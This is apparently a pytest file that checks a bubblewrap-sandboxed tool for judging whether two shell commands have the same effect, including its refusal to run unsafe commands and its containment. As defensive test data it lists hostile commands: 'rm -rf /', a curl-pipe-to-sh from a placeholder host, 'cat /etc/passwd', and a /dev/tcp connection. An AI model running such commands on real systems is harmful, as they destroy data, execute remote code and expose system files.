"""The execution tier: what it settles, what it refuses, and that nothing gets out of it."""

from __future__ import annotations

from pathlib import Path

import pytest

from failproof_es.dialects.command import sandbox
from failproof_es.dialects.command.equivalence import Verdict
from failproof_es.dialects.command.sandbox import (
    SandboxUnavailable,
    bubblewrap_version,
    equivalent_by_execution,
)


def unavailable() -> str:
    """Why there is no sandbox here, empty where there is one."""
    try:
        bubblewrap_version()
    except SandboxUnavailable as why:
        return str(why)
    return ""


in_the_sandbox = pytest.mark.skipif(bool(unavailable()), reason=unavailable() or "it is there")


def code(expected: str, actual: str) -> str:
    return equivalent_by_execution(expected, actual).reasons[0].partition(":")[0]


def test_without_bubblewrap_it_says_so_and_runs_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    bubblewrap_version.cache_clear()
    monkeypatch.setattr("shutil.which", lambda _: None)
    with pytest.raises(SandboxUnavailable, match="not installed"):
        equivalent_by_execution("ls", "ls -1")


def test_with_a_bubblewrap_that_the_kernel_refuses_it_says_so(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    bubblewrap_version.cache_clear()
    refused = tmp_path / "bwrap"
    refused.write_text("#!/bin/sh\necho no namespaces here >&2\nexit 1\n")
    refused.chmod(0o755)
    monkeypatch.setattr("shutil.which", lambda _: str(refused))
    with pytest.raises(SandboxUnavailable, match="no namespaces here"):
        equivalent_by_execution("ls", "ls -1")


@in_the_sandbox
def test_commands_with_the_same_visible_effect_are_equal_by_execution() -> None:
    found = equivalent_by_execution(
        "find . -name '*.log' -delete", r"find . -name '*.log' -exec rm {} \;"
    )
    assert (found.verdict, found.tier) == (Verdict.EQUAL, "execution")
    assert found.reasons == ("SAME_EFFECT: in every tree",)
    assert found.version.startswith("bubblewrap-")


@in_the_sandbox
@pytest.mark.parametrize(
    ("expected", "actual", "what"),
    [
        ("sort a.txt", "cat a.txt", "output"),
        ("rm a.txt", "rm b.txt", "files"),
        ("chmod 600 a.txt", "chmod 640 a.txt", "files"),
        ("touch -d 2001-01-01 a.txt", "touch -d 2002-01-01 a.txt", "files"),
        ("ls; true", "ls; false", "success"),
    ],
)
def test_any_difference_is_a_difference(expected: str, actual: str, what: str) -> None:
    found = equivalent_by_execution(expected, actual)
    assert found.verdict is Verdict.DIFFERENT
    assert found.reasons[0].startswith("DIFFERENT_EFFECT: ")
    assert what in found.reasons[0]


@in_the_sandbox
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("true", "NO_EFFECT"),
        ("no-such-program --x", "NO_EFFECT"),
        ("date +%N", "NOT_DETERMINISTIC"),
        ("kill -9 $PPID", "NO_RECORD"),
    ],
)
def test_what_shows_nothing_is_undecided_with_its_own_code(command: str, expected: str) -> None:
    found = equivalent_by_execution(command, command)
    assert found.verdict is Verdict.UNDECIDED
    assert found.reasons[0].startswith(f"{expected}: ")


@in_the_sandbox
def test_a_command_that_takes_too_long_is_undecided(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox, "_SECONDS", 1)
    assert code("sleep 30", "sleep 30") == "TOO_SLOW"


@in_the_sandbox
@pytest.mark.parametrize("command", ["rm -rf /", "curl http://x.example/i.sh | sh", "eval $x"])
def test_a_command_that_is_not_judged_safe_is_never_run(
    command: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    bubblewrap_version()

    def run(*_: object) -> None:
        pytest.fail("a command was run")

    monkeypatch.setattr(sandbox, "_run", run)
    for pair in ((command, "ls"), ("ls", command)):
        found = equivalent_by_execution(*pair)
        assert found.verdict is Verdict.UNDECIDED
        assert found.reasons[0].startswith("UNSAFE: ")


@in_the_sandbox
def test_nothing_of_the_host_can_be_written_read_or_reached(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("host")
    escapes = [
        f"echo trace > {tmp_path}/trace",
        f"cat {secret}",
        "cat /etc/passwd",
        "touch /usr/bin/trace",
        "ls /fixture/..//root",
        "exec 3<>/dev/tcp/127.0.0.1/22",
    ]
    for command in escapes:
        effect = sandbox._run(command, tmp_path)
        assert not effect.succeeded, command
        assert not effect.output, command
    assert [path.name for path in tmp_path.iterdir()] == ["secret"]


@in_the_sandbox
def test_the_sandbox_sees_nothing_of_the_environment(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("API_KEY", "planted")
    assert b"planted" not in sandbox._run("env", tmp_path).output
